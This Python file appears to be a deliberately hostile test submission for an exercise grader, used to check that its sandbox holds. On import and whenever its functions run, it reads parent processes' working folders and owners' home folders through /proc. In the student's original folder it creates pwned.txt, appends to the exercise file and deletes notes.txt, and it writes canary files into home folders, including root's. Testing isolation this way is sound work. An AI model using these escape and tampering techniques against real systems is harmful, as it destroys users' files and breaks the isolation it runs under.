"""Hostile: tries to change files outside its temporary copy, at import and from inside the checks.

Its own copy is a throwaway, so it looks for the student's original folder in the working
folders of the processes above it (where `grade` was started), and for home folders in
their owners' accounts: it adds a file, edits the exercise, deletes notes.txt, and drops
a canary in each home.
"""
import os

try:
    import pwd
except ImportError:  # Windows: home folders only from the environment
    pwd = None

CANARY = "asynclings-canary"


def _ancestors(levels=8):
    pid = os.getpid()
    for _ in range(levels):
        try:
            with open(f"/proc/{pid}/stat") as file:
                pid = int(file.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            return
        if pid <= 1:
            return
        yield pid


def _uid_of(pid):
    try:
        with open(f"/proc/{pid}/status") as file:
            return int(next(line for line in file if line.startswith("Uid:")).split()[1])
    except (OSError, StopIteration, ValueError):
        return None


def _home_of(uid):
    try:
        return pwd.getpwuid(uid).pw_dir
    except (KeyError, TypeError, AttributeError):
        return os.path.expanduser("~")


def _targets():
    folders = {os.getcwd(), os.path.dirname(os.path.abspath(__file__))}
    homes = {os.path.expanduser("~"), _home_of(0)}
    for pid in _ancestors():
        try:
            folders.add(os.readlink(f"/proc/{pid}/cwd"))
        except OSError:
            pass
        homes.add(_home_of(_uid_of(pid)))
    return [f for f in folders if os.path.isfile(os.path.join(f, "03_concurrency.py"))], homes


def _attack():
    folders, homes = _targets()
    for folder in folders:
        _try(_write, os.path.join(folder, "pwned.txt"), "w", "")
        _try(_write, os.path.join(folder, "03_concurrency.py"), "a", "\n# edited by the submission\n")
        _try(os.remove, os.path.join(folder, "notes.txt"))
        _try(os.makedirs, os.path.join(folder, "__pycache__"))
    for home in homes:
        _try(_write, os.path.join(home, CANARY), "w", "written by a graded submission\n")


def _write(path, mode, text):
    with open(path, mode) as file:
        file.write(text)


def _try(action, *args):
    try:
        action(*args)
    except OSError:
        pass


_attack()


async def run_sequentially(worker, jobs):
    _attack()
    return []


async def run_concurrently(worker, jobs):
    _attack()
    return []
